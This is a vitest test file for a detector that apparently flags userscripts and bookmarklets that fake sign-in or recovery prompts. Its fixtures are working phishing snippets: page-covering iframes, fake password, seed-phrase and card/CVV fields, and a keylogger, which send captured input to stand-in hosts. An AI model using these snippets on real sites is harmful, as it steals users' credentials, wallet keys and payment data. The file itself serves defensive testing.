import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { fakePrompt } from "./fake-prompt.ts";

describe("fake-prompt", () => {
	test.each([
		[
			"a page of somebody over the whole page",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`const f=document.createElement("iframe");f.src="https://sign.stranger.test/";f.style.cssText="position:fixed;inset:0;width:100vw;height:100vh";document.body.append(f)`,
			),
		],
		[
			"a question for the password",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const p=prompt("Your session has expired. Password:");
fetch("https://c.stranger.test/",{method:"POST",body:p})`,
			),
		],
		[
			"an overlay with a field of its own",
			["critical 7"],
			userscript(
				["match https://shop.example/*"],
				`const i=document.createElement("input");i.type="password";i.placeholder="Recovery phrase";document.body.append(i);
const ok=document.createElement("button");document.body.append(ok);
ok.onclick=()=>fetch("https://c.stranger.test/?p="+i.value)`,
			),
		],
		[
			"a frame that asks to sign in over the page, by a bookmarklet",
			["medium 1"],
			`(function(){const f=document.createElement("iframe");f.src="https://login.stranger.test/?site="+location.hostname;f.setAttribute("style","position:fixed;left:0;top:0;width:100vw;height:100vh");document.body.append(f)})()`,
		],
		[
			"a sign-in of its own after the session, to a declared server",
			["critical 9"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect keep.example.net"],
				`setTimeout(()=>{const d=document.createElement("div");
d.innerHTML='<form><p>Ihre Sitzung ist abgelaufen</p><input name="u"><input name="p" type="password"></form>';document.body.append(d);
d.querySelector("form").onsubmit=(e)=>GM_xmlhttpRequest({method:"POST",url:"https://keep.example.net/",data:e.target.elements.p.value})},9e4)`,
			),
		],
		[
			"twelve words in fields of a form that goes elsewhere",
			["critical 2"],
			`(function(){const f=document.createElement("form");f.method="post";
f.action="https://import.stranger.test/keys";
const b=document.createElement("b");b.textContent="Clave: frase de recuperación";f.append(b);
const g=document.createElement("div");for(let n=1;n<13;n++){const w=document.createElement("input");w.name="w"+n;g.appendChild(w)}
f.appendChild(g);document.body.append(f)})()`,
		],
		[
			"recovery words to a declared server",
			["critical 8"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect sync.example.net"],
				`const t=document.createElement("textarea");t.placeholder="Enter your 12-word recovery phrase";document.body.append(t);
t.onchange=()=>GM_xmlhttpRequest({method:"POST",url:"https://sync.example.net/",data:t.value})`,
			),
		],
		[
			"a sign-in form in markup",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.body.insertAdjacentHTML("beforeend",'<form method=post action="https://skin.stranger.test/in"><input name=user><input name=pw type="password"></form>')`,
			),
		],
		[
			"words typed into an editable element",
			["critical 7"],
			userscript(
				["match https://shop.example/*"],
				`const d=document.createElement("div");d.contentEditable=true;const p=document.createElement("p");
p.textContent="Paste your secret recovery phrase to sync";document.body.append(p,d);
d.onblur=()=>fetch("https://a.stranger.test/",{method:"POST",body:d.textContent})`,
			),
		],
		[
			"keys of a password field of its own",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const i=document.createElement("input");i.type="password";let s="";i.onkeydown=e=>{s+=e.key};
setInterval(()=>{new Image().src="https://a.stranger.test/?"+s},9000)`,
			),
		],
		[
			"card data to a declared server",
			["critical 8"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect pay.example.net"],
				`const o=document.createElement("div");o.innerHTML='<input class=cc placeholder="Card number"><input class=cv placeholder="CVV"><button>Verify</button>';document.body.append(o);
o.querySelector("button").onclick=()=>GM_xmlhttpRequest({method:"POST",url:"https://pay.example.net/",data:o.querySelector(".cv").value})`,
			),
		],
		[
			"a sign-in form by a library",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`$("#login").replaceWith($("<form method=post>").attr("action","https://skin.stranger.test/in").append('<input name=user>').append($('<input type="password" name="pw">')))`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(fakePrompt, code)).toEqual(expected);
	});

	test.each([
		[
			"a question for a word",
			userscript(
				["match https://shop.example/*"],
				`const q=prompt("Search for:");fetch("https://c.stranger.test/?q="+q)`,
			),
		],
		[
			"a key for its own service",
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example", "grant GM_setValue"],
				`const k=prompt("API key or password of Helper:");GM_xmlhttpRequest({url:"https://api.helper.example/",headers:{Authorization:k}})`,
			),
		],
		[
			"a search form of its own, in a script that knows the word password",
			`(function(){const skip="input[type=password]";const f=document.createElement("form");f.action="https://search.example.org/";
const q=document.createElement("input");q.name="q";q.title=skip;f.append(q);document.body.append(f)})()`,
		],
		[
			"a sign-in form for the page's own site",
			userscript(
				["match https://shop.example/*"],
				`document.body.insertAdjacentHTML("beforeend",'<form method=post action="/login"><input name=pw type="password"></form>')`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(fakePrompt, code)).toEqual([]);
	});

	const on = (body: string) => userscript(["match https://shop.example/*"], body);
	const OVER = "position:fixed;inset:0;width:100%;height:100%;border:0";
	const frame = (address: string, more = "") =>
		`const f = document.createElement("iframe"); f.style.cssText = "${OVER}"; f.src = ${address}; document.body.append(f);${more}`;

	test.each([
		["of another site", on(frame('"https://c.stranger.test/"'))],
		[
			"of another site, in markup",
			on(
				`document.body.insertAdjacentHTML("beforeend", '<iframe src="https://c.stranger.test/" style="${OVER}"></iframe>');`,
			),
		],
		["of a place that the address of the page names", on(frame("decodeURIComponent(location.hash.slice(1))"))],
		[
			"of the site, around which the script stays",
			on(frame('"/"', " f.onload = () => history.replaceState(null, '', f.contentWindow.location.href);")),
		],
		["of another site, by a bookmarklet", `javascript:\n\n\n\n${frame('"https://c.stranger.test/"')}`],
	])("finds a frame over the page: %s", (_title, code) => {
		expect(findIn(fakePrompt, code)).toEqual(["medium 5"]);
	});

	test.each([
		["of the site", on(frame('"/preview"'))],
		[
			"on a press",
			on(
				`const b = document.createElement("button"); document.body.append(b); b.onclick = () => { ${frame('"https://c.stranger.test/"')} };`,
			),
		],
		[
			"at the side",
			`javascript:const f = document.createElement("iframe"); f.style.cssText = "position:fixed;right:0;top:0;width:400px;height:100%"; f.src = "https://c.stranger.test/"; document.body.append(f);`,
		],
		[
			"in the text",
			on(
				'const f = document.createElement("iframe"); f.style.cssText = "width:100%;height:100%"; f.src = "https://c.stranger.test/"; document.body.append(f);',
			),
		],
	])("leaves alone a frame %s", (_title, code) => {
		expect(findIn(fakePrompt, code)).toEqual([]);
	});
});
